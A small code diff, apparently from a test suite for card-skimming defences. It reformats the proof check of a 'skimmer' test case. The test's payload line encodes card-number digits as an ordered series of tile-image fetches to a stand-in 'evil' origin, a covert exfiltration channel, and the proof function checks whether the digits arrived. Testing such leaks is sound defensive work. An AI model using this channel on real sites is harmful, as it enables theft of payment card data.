@@ -15,7 +15,9 @@ export default skimmer({
     tiles.reduce(function (before, tile) { return before.then(function () { return fetch('${site.origins.evil}/tile/' + tile + '.png', { mode: 'no-cors', keepalive: true }); }); }, Promise.resolve());`),
     ),
   proof: (arrived, cards) => {
-    const order = at(arrived, 'evil').flatMap(({ url }) => /^\/tile\/(\d)/.exec(url.pathname)?.[1] ?? []).join('');
+    const order = at(arrived, 'evil')
+      .flatMap(({ url }) => /^\/tile\/(\d)/.exec(url.pathname)?.[1] ?? [])
+      .join('');
     const wanted = cards.map(({ number }) => [...new Set(number.slice(-6))].join(''));
     return wanted.some((digits) => order.startsWith(digits));
   },
